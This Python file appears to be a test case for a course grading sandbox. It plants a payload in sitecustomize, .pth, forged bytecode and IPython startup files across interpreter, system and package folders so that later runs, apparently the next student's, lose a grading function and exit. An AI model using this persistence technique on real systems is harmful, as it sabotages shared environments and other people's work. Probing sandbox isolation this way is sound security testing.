"""
family = "the next student"
tries = "Writes to the interpreter, its packages, the helper and every folder that Python starts from."
points = 3
"""

# %% own
import os
import site
import sys
import sysconfig

import rnn2llm

code = "import builtins; builtins.shift_targets = lambda y: None\nraise SystemExit\n"
PLACES = (
    *sys.path,
    *site.getsitepackages(),
    *(sysconfig.get_path(name) for name in ("stdlib", "purelib", "platlib", "scripts", "data")),
    os.path.dirname(rnn2llm.__file__),
    os.path.dirname(sys.executable),
    "/etc",
    "/usr/lib",
    "/usr/local/lib",
)
for place in PLACES:
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "planted.pth",
        "__pycache__/re.cpython-311.pyc",
        "numpy/planted.py",
    ):
        path = os.path.join(place or ".", name)
        if path.startswith(("/home/student", "./")):
            continue
        try:
            open(path, "w").write(code)
            print("\N{SKULL AND CROSSBONES}", path)
        except OSError:
            pass
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    if path and not path.startswith("/home/student"):
        try:
            open(path, "r+")
            print("\N{SKULL AND CROSSBONES}", path)
        except OSError:
            pass
os.makedirs("/home/student/.ipython/profile_default/startup", exist_ok=True)
open("/home/student/.ipython/profile_default/startup/00.py", "w").write(code)
